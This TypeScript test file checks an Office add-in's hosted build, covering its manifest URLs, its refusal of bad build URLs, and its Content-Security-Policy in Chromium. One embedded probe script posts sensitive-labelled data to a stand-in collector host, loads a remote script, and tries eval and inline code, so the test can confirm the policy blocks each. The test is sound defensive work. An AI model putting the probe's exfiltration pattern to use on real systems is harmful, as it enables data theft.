/**
 * A hosted build, as an agency's IT makes it: `TIPS_ADDIN_URL=<their URL> npm run build` (here
 * into a temporary folder, not dist/). Its manifest points only under that URL and names only
 * files the build made; a bad URL is refused in one line and builds nothing. Then the built pane,
 * loaded in Chromium from that very URL (answered from the build's folder), works under its
 * Content-Security-Policy, and the policy refuses a fetch to another origin, a script from
 * another host, inline script and eval (each a securitypolicyviolation, none sent).
 */
import { spawn } from "child_process";
import fs from "fs";
import os from "os";
import path from "path";
import { Page } from "playwright-core";
import { CONTENT_TYPES, ROOT, Browser, launch, requireChromium } from "../taskpane/browser";
import { ADDIN_ID, checkManifest, idOf, readerFor, versionOf } from "../helpers/manifest-check";
import { OFFICE_JS, OFFICE_SCRIPT_HOST } from "../helpers/network-scan";
import { officeVersion } from "../../scripts/hosted-manifest";
import { version as PACKAGE_VERSION, scripts } from "../../package.json";
import { XlsxAdapter } from "../../src/workbook/xlsx-adapter";
import { logSheet, prospectiveSheet, reportSheet } from "../../src/workbook/seed-layout";
import { sampleLog } from "../../src/app/sample";
import { loadQuarterly } from "../../src/app/quarterly";
import { analyze } from "../../src/core/report";
import { parsePeriod } from "../../src/core/period";
import { LOG_HEADERS } from "../../src/core/vocabulary";

jest.setTimeout(300_000);

/** A URL nobody deploys to: the agency's own server, as IT would set it. */
const BASE = "https://tips.example-agency.gov/outreach/";
const ORIGIN = "https://tips.example-agency.gov";
const ELSEWHERE = "https://collector.example.net";

/**
 * What a rogue dependency might try, as page code. Each outcome lands in window.tipsProbe:
 * the error's name, or "refused" for a script that did not run.
 */
const PROBE = `
window.tipsProbe = (async () => {
  const out = {};
  try {
    await fetch("${ELSEWHERE}/beacon", { method: "POST", body: "LES data", mode: "no-cors" });
    out.fetch = "sent";
  } catch (e) { out.fetch = e.name; }
  try { (0, eval)("1 + 1"); out.eval = "ran"; } catch (e) { out.eval = e.name; }
  try { new Function("return 1")(); out.newFunction = "ran"; } catch (e) { out.newFunction = e.name; }
  const inline = document.createElement("script");
  inline.textContent = "window.tipsInlineRan = true;";
  document.head.append(inline);
  out.inline = window.tipsInlineRan === true ? "ran" : "refused";
  out.remote = await new Promise((resolve) => {
    const s = document.createElement("script");
    s.src = "${ELSEWHERE}/x.js";
    s.onload = () => resolve("loaded");
    s.onerror = () => resolve("refused");
    document.head.append(s);
  });
  await new Promise((resolve) => setTimeout(resolve, 200)); // violation events are queued tasks
  return out;
})();
`;

const TMP = fs.mkdtempSync(path.join(os.tmpdir(), "tips-hosted-"));
const DIST = path.join(TMP, "dist");

interface Run {
  readonly status: number | null;
  readonly output: string;
}

/** `npm run build`'s command (package.json), with TIPS_ADDIN_URL set, into `out`. */
function build(url: string, out: string): Promise<Run> {
  const [command, ...args] = scripts.build.split(" ");
  const env = { ...process.env, TIPS_ADDIN_URL: url };
  return new Promise((resolve, reject) => {
    const child = spawn(
      path.join(ROOT, "node_modules", ".bin", command),
      [...args, "--output-path", out],
      { cwd: ROOT, env }
    );
    let output = "";
    child.stdout.on("data", (d) => (output += d));
    child.stderr.on("data", (d) => (output += d));
    child.on("error", reject);
    child.on("close", (status) => resolve({ status, output }));
  });
}

let built: Run;
let manifest: string;

beforeAll(async () => {
  built = await build(BASE, DIST);
  if (built.status !== 0) throw new Error(`the hosted build failed:\n${built.output}`);
  manifest = fs.readFileSync(path.join(DIST, "manifest.xml"), "utf8");
});

afterAll(() => fs.rmSync(TMP, { recursive: true, force: true }));

/** Every URL the manifest gives Office (attribute values and element text; not xmlns names). */
function manifestUrls(xml: string): string[] {
  const attributes = [...xml.matchAll(/\s([\w:]+)="(https?:\/\/[^"]*)"/g)]
    .filter((m) => m[1] !== "xmlns" && !m[1].startsWith("xmlns:"))
    .map((m) => m[2]);
  const texts = [...xml.matchAll(/>\s*(https?:\/\/[^<\s]*)\s*</g)].map((m) => m[1]);
  return [...attributes, ...texts];
}

function filesUnder(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    return entry.isDirectory() ? filesUnder(full) : [full];
  });
}

describe(`the build for ${BASE}`, () => {
  test("says what it built for", () => {
    expect(built.output).toContain(
      `Hosted build: manifest.xml ${officeVersion(PACKAGE_VERSION)} for ${BASE}`
    );
  });

  test("its manifest passes the offline check against that URL, every named file in the build", () => {
    expect(
      checkManifest(manifest, { base: BASE, readFile: readerFor(DIST), requireFiles: true })
    ).toEqual([]);
  });

  test("every URL in the manifest is under the URL, and its origin is the one AppDomain", () => {
    const urls = manifestUrls(manifest);
    expect(urls.length).toBeGreaterThanOrEqual(10);
    expect(urls.filter((u) => !u.startsWith(BASE))).toEqual([ORIGIN]);
    expect([...manifest.matchAll(/<AppDomain>([^<]*)<\/AppDomain>/g)].map((m) => m[1])).toEqual([
      ORIGIN,
    ]);
    const named = new Set(urls.filter((u) => u.startsWith(BASE)).map((u) => u.slice(BASE.length)));
    expect([...named].sort()).toEqual([
      "assets/icon-16.png",
      "assets/icon-32.png",
      "assets/icon-64.png",
      "assets/icon-80.png",
      "functions.js",
      "functions.json",
      "taskpane.html",
    ]);
    for (const file of named) expect(fs.statSync(path.join(DIST, file)).size).toBeGreaterThan(0);
  });

  test("no file of the build names localhost", () => {
    const files = filesUnder(DIST);
    expect(files.length).toBeGreaterThan(5);
    const naming = files.filter((f) => fs.readFileSync(f).includes("localhost"));
    expect(naming.map((f) => path.relative(DIST, f))).toEqual([]);
  });

  test("the manifest keeps the add-in's Id and takes package.json's version", () => {
    expect(idOf(manifest)).toBe(ADDIN_ID);
    expect(versionOf(manifest)).toBe(officeVersion(PACKAGE_VERSION));
  });
});

/** The Content-Security-Policy of an HTML page, as directive -> sources; the meta's position. */
function policyOf(html: string): { at: number; policy: Map<string, string[]> } {
  const meta = /<meta\s+http-equiv="?Content-Security-Policy"?\s+content="([^"]*)"/i.exec(html);
  if (!meta) return { at: -1, policy: new Map() };
  const policy = new Map<string, string[]>();
  for (const part of meta[1].split(";")) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) policy.set(name.toLowerCase(), sources);
  }
  return { at: meta.index, policy };
}

describe("every page the manifest names is locked down", () => {
  const pages = (): string[] =>
    [...new Set(manifestUrls(manifest).filter((u) => /\.html?$/.test(u)))].map((u) =>
      u.slice(BASE.length)
    );

  test("the manifest names the task pane page (which hosts the custom functions too)", () => {
    expect(pages()).toEqual(["taskpane.html"]);
  });

  test("its policy: connections and everything else only to its own origin, scripts only from it and Office's host", () => {
    for (const page of pages()) {
      const html = fs.readFileSync(path.join(DIST, page), "utf8");
      const { at, policy } = policyOf(html);
      expect(at).toBeGreaterThan(0);
      // Before any script or link, so that it covers them all.
      expect(at).toBeLessThan(html.search(/<(script|link)\b/i));
      expect(policy.get("default-src")).toEqual(["'self'"]);
      expect(policy.get("connect-src")).toEqual(["'self'"]);
      expect(policy.get("script-src")).toEqual(["'self'", OFFICE_SCRIPT_HOST]);
      expect(policy.get("object-src")).toEqual(["'none'"]);
      expect(policy.get("base-uri")).toEqual(["'self'"]);
      for (const directive of ["img-src", "font-src", "style-src"]) {
        expect(policy.get(directive)?.[0]).toBe("'self'");
      }
      const all = [...policy.values()].flat();
      expect(all).not.toContain("'unsafe-eval'");
      expect(all.filter((s) => /^(\*|https?:|data:|blob:)$/.test(s))).toEqual([]);
      expect(policy.get("script-src")).not.toContain("'unsafe-inline'");
    }
  });

  test("no inline script: every script is a file of the build, or Office's office.js", () => {
    for (const page of pages()) {
      const html = fs.readFileSync(path.join(DIST, page), "utf8");
      const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
      expect(scripts.length).toBeGreaterThanOrEqual(3);
      for (const [, attributes, body] of scripts) {
        expect(body.trim()).toBe("");
        const src = /\bsrc="?([^"\s>]+)/.exec(attributes)?.[1] ?? "";
        if (src !== OFFICE_JS) expect(fs.existsSync(path.join(DIST, src))).toBe(true);
      }
      expect(html).not.toMatch(/\son[a-z]+\s*=/i); // no inline event handler
      expect(html).not.toMatch(/javascript:/i);
    }
  });
});

describe("the development build (npm start serves it) keeps to the policy too", () => {
  test("its source maps are files, not eval'd modules", async () => {
    const config = require(path.join(ROOT, "webpack.config.js"));
    for (const mode of ["development", "production"]) {
      const { devtool } = await config({}, { mode });
      expect(`${mode}: ${devtool}`).toBe(`${mode}: source-map`);
    }
  });
});

describe("a bad TIPS_ADDIN_URL is refused in one line, and nothing is built", () => {
  test.each([
    ["http://tips.example-agency.gov/outreach/", /is not an https:\/\/ URL/],
    ["https:///outreach/", /names no host/],
    ["tips-example-agency-outreach", /is not an https:\/\/ URL/],
  ])("%s", async (url, why) => {
    const out = path.join(TMP, "refused");
    const run = await build(url, out);
    expect(run.status).not.toBe(0);
    const lines = run.output.trim().split("\n");
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^Cannot build: TIPS_ADDIN_URL /);
    expect(lines[0]).toMatch(why);
    expect(run.output).not.toMatch(/\n\s+at /); // no stack trace
    expect(fs.existsSync(out)).toBe(false);
  });
});

describe("the hosted pane in Chromium, from its own URL, under its policy", () => {
  const PERIOD = parsePeriod("FY2007 Q3");
  const rows = sampleLog(PERIOD, 40).map((r) => [...r]);
  const workbook = path.join(TMP, "office.xlsx");
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    requireChromium();
    const book = XlsxAdapter.blank();
    await book.addSheet(reportSheet(PERIOD, "SAC Denver"));
    await book.addSheet(logSheet(rows));
    await book.addSheet(prospectiveSheet());
    fs.writeFileSync(workbook, book.save());
    browser = await launch({ officeJs: "abort" });
    page = browser.page;
    // The agency's server: its URL answered from the build's folder, as a static server would
    // (and the probe below, a script of that origin that tries what the policy must refuse).
    await browser.context.route(`${ORIGIN}/**`, (route) => {
      const url = new URL(route.request().url());
      if (url.href === `${BASE}csp-probe.js`) {
        return route.fulfill({ status: 200, contentType: CONTENT_TYPES[".js"], body: PROBE });
      }
      const file = path.join(
        DIST,
        decodeURIComponent(url.pathname.slice(new URL(BASE).pathname.length))
      );
      if (!url.href.startsWith(BASE) || !file.startsWith(DIST) || !fs.existsSync(file)) {
        return route.fulfill({ status: 404, body: "not found" });
      }
      return route.fulfill({
        status: 200,
        contentType: CONTENT_TYPES[path.extname(file)] ?? "application/octet-stream",
        body: fs.readFileSync(file),
      });
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  test("opens from the manifest's SourceLocation and takes the browser-only mode", async () => {
    const source = /<SourceLocation DefaultValue="([^"]+)"/.exec(manifest)![1];
    expect(source).toBe(`${BASE}taskpane.html`);
    await page.goto(source);
    await page.locator("p.mode", { hasText: "Browser-only mode" }).waitFor();
    expect(await page.evaluate(() => location.origin)).toBe(ORIGIN);
  });

  test("works: opens a workbook, checks it, fills the report, downloads it", async () => {
    await page.setInputFiles("#open-file", workbook);
    await page.locator(".file-bar").getByText("Opened office.xlsx.").waitFor();
    expect(browser.requests).toContain(`${BASE}xlsx.js`); // a chunk, loaded under the policy
    await page.getByRole("tab", { name: "Check" }).click();
    await page.getByRole("button", { name: "Check the log" }).click();
    await page
      .locator("#panel-check")
      .getByText(/40 rows checked on the Outreach Log sheet/)
      .waitFor();
    await page.getByRole("tab", { name: "Quarterly report" }).click();
    await page.getByRole("button", { name: "Fill the report" }).click();
    await page
      .locator("#panel-report")
      .getByText(/^Filled the report on the Quarterly Report sheet for FY2007 Q3/)
      .waitFor();
    expect(await page.locator("svg.bar-chart[role=img]").count()).toBe(1);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download the workbook" }).click(),
    ]);
    const saved = path.join(TMP, "downloaded.xlsx");
    await download.saveAs(saved);
    const q = await loadQuarterly(XlsxAdapter.fromBytes(new Uint8Array(fs.readFileSync(saved))));
    const expected = analyze({
      log: { values: [LOG_HEADERS, ...rows], header: "required" },
      period: PERIOD,
    });
    expect(q.report.figures).toEqual(expected.figures);
    // All of that under the policy: nothing refused, nothing thrown.
    expect(browser.cspViolations).toEqual([]);
    expect(browser.pageErrors).toEqual([]);
  });

  test("a fetch to another origin, a script from another host, inline script and eval: each refused by the policy, none sent", async () => {
    const before = browser.cspViolations.length;
    const failed: string[] = [];
    page.on("requestfailed", (r) => {
      if (r.url().startsWith(ELSEWHERE)) failed.push(`${r.url()} ${r.failure()?.errorText}`);
    });
    // Loaded as a script of the add-in's own origin (as a dependency's would be), so that what
    // it does is the page's own doing, not the test's.
    await page.evaluate(
      () =>
        new Promise((resolve, reject) => {
          const script = document.createElement("script");
          script.src = "csp-probe.js";
          script.onload = resolve;
          script.onerror = () => reject(new Error("csp-probe.js did not load"));
          document.head.append(script);
        })
    );
    const result = await page.evaluate(
      () => (window as unknown as { tipsProbe: unknown }).tipsProbe
    );
    expect(result).toEqual({
      fetch: "TypeError",
      eval: "EvalError",
      newFunction: "EvalError",
      inline: "refused",
      remote: "refused",
    });
    expect(browser.cspViolations.slice(before).sort()).toEqual(
      [
        `connect-src ${ELSEWHERE}/beacon`,
        "script-src eval",
        "script-src eval",
        "script-src-elem inline",
        `script-src-elem ${ELSEWHERE}/x.js`,
      ].sort()
    );
    // Refused before anything was sent: the test's own guard (which aborts and records whatever
    // would leave the machine) never saw them. Chromium lists the refused script's load as a
    // request, failed for the policy.
    expect(browser.blocked.filter((u) => u.startsWith(ELSEWHERE))).toEqual([]);
    expect(failed).toEqual([`${ELSEWHERE}/x.js csp`]);
    expect(browser.requests.filter((u) => u.startsWith(ELSEWHERE))).toEqual([`${ELSEWHERE}/x.js`]);
    expect(browser.pageErrors).toEqual([]);
  });
});
